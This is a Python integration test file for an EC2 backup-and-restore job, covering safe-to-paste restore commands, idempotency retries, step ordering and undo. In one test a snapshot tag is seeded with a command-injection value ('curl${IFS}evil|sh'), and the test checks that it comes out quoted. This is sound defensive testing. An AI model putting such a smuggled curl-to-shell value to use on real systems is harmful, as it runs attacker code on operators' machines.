"""What a restore says, so that nobody is left without the next step, and what it prints is safe to paste."""

from collections.abc import Callable
from typing import Any

from local import seed
from local.embedded import EmbeddedAws
from local.wire import Fault
from local.world import world
from nightshift.jobs import backup
from nightshift.jobs.restore import JOB
from tests.integration.cuts import Stumble
from tests.integration.restore_scenes import devices, new_volumes, volumes, went_well

type Run = Callable[..., dict[str, Any]]


def test_commands_carry_no_commands_of_others(ec2: Any, backend: Any, box: Any, run_job: Run) -> None:
    """Whoever may tag a snapshot must not write what an operator pastes into a shell."""
    for each in backend.snapshots.values():
        seed.system_tags(backend, each.id, {"nightshift:origin": "eu-central-1a t3.micro;curl${IFS}evil|sh - -"})
    box.terminate()
    commands = run_job(JOB, {"instance_id": box.id})["restore"]["commands"]
    assert "'t3.micro;curl${IFS}evil|sh'" in commands[1]
    elsewhere = run_job(JOB, {"instance_id": box.id, "zone": "eu-central-1b"})["restore"]["commands"]
    assert "--subnet-id <one in eu-central-1b>" in elsewhere[1]


def test_another_token_where_aws_has_seen_this_one_with_other_tags(
    ec2: Any, box: Any, aws: EmbeddedAws, run_job: Run
) -> None:
    there = volumes(ec2)
    mismatch = Fault("IdempotentParameterMismatch", "The request uses the same client token as a previous request")
    aws.hooks.append(Stumble(1, mismatch))
    went_well(run_job(JOB, {"instance_id": box.id}))
    assert len(new_volumes(ec2, there)) == len(devices(ec2, box))


def test_steps_are_read_in_their_order(event: Any, run_job: Run) -> None:
    reasons = [each["reason"] for each in run_job(JOB, event)["decisions"]]
    assert [reason.split(" of ")[0] for reason in reasons] == [f"step {number}" for number in range(1, 11)]


def test_the_first_backup_after_a_restore_is_a_point_of_its_own(
    ec2: Any, box: Any, event: dict[str, Any], run_job: Run
) -> None:
    """The new volumes are due for the same slot: what was saved before and after is not one set."""
    before = devices(ec2, box)
    first = run_job(JOB, event)["restore"]
    world.clock.advance(minutes=15)
    assert run_job(backup.JOB, {})["done"] == len(before)
    world.clock.advance(minutes=5)
    points = run_job(JOB, {"instance_id": box.id, "list": True})["points"]
    assert {len(point["volumes"]) for point in points} == {len(before)}
    went_well(run_job(JOB, event | {"at": first["point"].rpartition(" ")[2]}))
    went_well(run_job(JOB, first["undo"]))
    assert devices(ec2, box) == before
    [note] = {note.split(",")[1] for note in run_job(JOB, event | {"dry_run": True})["notes"]}
    assert note == " which an undo has taken out: for what stands now"


def test_the_undo_event_is_told_again(event: dict[str, Any], run_job: Run) -> None:
    """Whoever lost the first answer sends the same event once more."""
    first = run_job(JOB, event)["restore"]["undo"]
    again = run_job(JOB, event)
    assert (again["planned"], again["restore"]["undo"]) == (0, first)


def test_another_copy_of_what_is_in_use(ec2: Any, box: Any, run_job: Run) -> None:
    data = devices(ec2, box)["/dev/sdf"]
    there = volumes(ec2)
    went_well(run_job(JOB, {"volume_id": data}))
    [made] = new_volumes(ec2, there)
    ec2.attach_volume(VolumeId=made["VolumeId"], InstanceId=box.id, Device="/dev/sdq")
    [kept] = run_job(JOB, {"volume_id": data})["decisions"]
    assert f"is at {box.id}: for another copy, take the tag nightshift:restore off it" in kept["reason"]
    ec2.delete_tags(Resources=[made["VolumeId"]], Tags=[{"Key": "nightshift:restore"}])
    assert run_job(JOB, {"volume_id": data})["done"] == 1
